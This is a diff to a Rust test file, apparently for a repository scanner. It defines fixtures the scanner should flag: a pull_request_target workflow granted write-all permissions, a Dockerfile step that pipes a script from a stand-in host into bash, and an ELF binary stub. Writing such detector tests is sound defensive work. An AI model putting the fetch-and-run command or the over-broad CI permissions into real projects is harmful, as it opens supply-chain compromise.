@@ -66,7 +66,7 @@ fn trees() -> Vec<Tree> {
     let bad = vec![
         text(CI, workflow("pull_request_target", head).replace("permissions: {}", "permissions: write-all")),
         text("Dockerfile", "FROM python:3\nRUN pip install requests\nRUN curl https://x.example/i.sh | bash\n"),
-        ("tool", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0\x01\0\0\0".to_vec()),
+        ("tool", [&b"\x7fELF\x02\x01\x01"[..], &[0; 200]].concat()),
     ];
     let silent = vec![
         text(CI, "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),
